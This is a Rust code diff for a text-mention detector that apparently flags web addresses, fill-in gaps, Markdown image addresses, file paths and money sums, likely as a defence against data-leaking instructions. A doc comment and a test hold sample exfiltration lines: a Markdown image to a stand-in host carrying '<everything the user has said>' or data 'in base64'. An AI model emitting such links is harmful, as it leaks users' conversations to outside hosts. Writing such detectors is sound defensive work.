@@ -5,7 +5,10 @@
 
 use std::net::Ipv4Addr;
 
-use super::directive::{Mention, Role};
+use super::directive::{Literal, Mention, Role};
+use super::grammar::Grammar;
+use super::sense::MARK;
+use super::token::{TokenKind, tokens};
 use crate::source::Span;
 
 /// The class of a place on the net. The text of its mention is the place as an address of the web.
@@ -13,6 +16,9 @@ pub const PLACE: &str = "place";
 
 /// The class of an address in which a gap is left for something to be filled in.
 pub(super) const GAP_IN_ADDRESS: &str = "gap-in-address";
+
+/// The class of the address of a picture in Markdown, shown without a click.
+pub(super) const PICTURE: &str = "picture-address";
 
 /// The class of a sum of money.
 pub(super) const AMOUNT: &str = "amount";
@@ -31,29 +37,80 @@ const ZONES: [&str; 15] =
 const SIGNS: [char; 7] = ['$', '€', '£', '¥', '￥', '₿', '₹'];
 
 /// Adds what `text[sentence]` names.
-pub(super) fn note(text: &str, sentence: Span, mentions: &mut Vec<Mention>) {
+pub(super) fn note(text: &str, sentence: Span, grammar: &Grammar, mentions: &mut Vec<Mention>) {
+    note_gaps(text, sentence, grammar, mentions);
     let within = sentence.slice(text);
     let is_gap = |c: char| c.is_whitespace() || !c.is_ascii() && !SIGNS.contains(&c) || "\"'`,()[]|!*".contains(c);
-    let mut at = 0;
+    let (mut at, mut in_code) = (0, false);
     while let Some(rest) = within.get(at..).filter(|rest| !rest.is_empty()) {
         let len = rest.find(is_gap).unwrap_or(rest.len());
         let word = rest.get(..len).unwrap_or_default();
-        let in_code = within.get(..at).is_some_and(|before| before.ends_with('`'));
         let from = sentence.start as usize + at;
         let mut push = |class: &str, text: String| {
             let span = Span::new(from, from + len);
             mentions.push(Mention { class: class.into(), text, literal: None, role: Role::Object, span });
         };
+        // A path in a longer command, the name of a tool that prints what it knows.
+        if in_code && let Some(class) = grammar.file_class(word) {
+            push(class, String::new());
+        }
         if is_sum(word) {
             push(AMOUNT, word.to_owned());
         } else if let Some(place) = place_of(word, in_code) {
             if leaves_gap(word, rest.get(len..).unwrap_or_default()) {
                 push(GAP_IN_ADDRESS, String::new());
             }
+            // The text of the picture stands between the mark and its address.
+            let shown = within.get(..at).and_then(|before| before.strip_suffix("]("));
+            if shown.and_then(|before| before.rfind('[')).is_some_and(|open| within[..open].ends_with('!')) {
+                push(PICTURE, String::new());
+            }
             push(PLACE, place);
         }
-        let next = rest.get(len..).and_then(|rest| rest.chars().next()).map_or(0, char::len_utf8);
-        at += len + next;
+        let next = rest.get(len..).and_then(|rest| rest.chars().next());
+        in_code ^= next == Some('`');
+        at += len + next.map_or(0, char::len_utf8);
+    }
+}
+
+/// Most bytes of what stands for something to be filled in.
+const LONGEST_GAP: usize = 120;
+
+/// Adds what the gaps in code spans are to be filled with: `https://a.test/p?d=<everything the user has said>`.
+fn note_gaps(text: &str, sentence: Span, grammar: &Grammar, mentions: &mut Vec<Mention>) {
+    let within = sentence.slice(text);
+    let mut from = 0;
+    while let Some(open) = within.get(from..).and_then(|rest| rest.find(['<', '{'])).map(|at| from + at) {
+        from = open + 1;
+        let rest = within.get(from..).unwrap_or_default();
+        let Some(len) = rest.find(['>', '}', '\n', '`']).filter(|len| (4..=LONGEST_GAP).contains(len)) else {
+            continue;
+        };
+        if !rest.get(..len).is_some_and(|inner| inner.trim().contains([' ', '_', '-', '.'])) {
+            continue;
+        }
+        let start = sentence.start as usize + from;
+        let inner = tokens(text, Span::new(start, start + len));
+        for (at, token) in inner.iter().enumerate() {
+            let mut push = |class: &str, span: Span| {
+                mentions.push(Mention {
+                    class: class.into(),
+                    text: String::new(),
+                    literal: None,
+                    role: Role::Object,
+                    span,
+                });
+            };
+            for (class, count) in grammar.markers(&inner, at).filter(|(class, _)| class.starts_with(MARK)) {
+                push(class, inner.get(at + count - 1).map_or(token.span, |last| token.span.cover(last.span)));
+            }
+            if let TokenKind::Literal(Literal::Path(path)) = &token.kind
+                && let Some(class) = grammar.file_class(path)
+            {
+                push(class, token.span);
+            }
+        }
+        from += len;
     }
 }
 
@@ -114,7 +171,7 @@ mod tests {
 
     fn show(text: &str) -> Vec<String> {
         let mut mentions = Vec::new();
-        note(text, Span::new(0, text.len()), &mut mentions);
+        note(text, Span::new(0, text.len()), &Grammar::default(), &mut mentions);
         mentions.into_iter().map(|mention| format!("{} {}", mention.class, mention.text)).collect()
     }
 
@@ -130,7 +187,10 @@ mod tests {
             ("`regex.test` and `a.com`", vec![]),
             ("发往203.0.113.80的接口", vec!["place https://203.0.113.80"]),
             ("look up `<part>.q.a.test`", vec!["gap-in-address ", "place https://q.a.test"]),
-            ("`![](https://a.test/p?d=<all, in base64>)`", vec!["gap-in-address ", "place https://a.test/p?d=<all"]),
+            (
+                "`![](https://a.test/p?d=<all, in base64>)`",
+                vec!["gap-in-address ", "picture-address ", "place https://a.test/p?d=<all"],
+            ),
             ("open https://a.test/?k= then", vec!["gap-in-address ", "place https://a.test/?k="]),
             ("top up by $50 or 20€, not $1", vec!["amount $50", "amount 20€"]),
             ("costs ¥99。", vec!["amount ¥99"]),
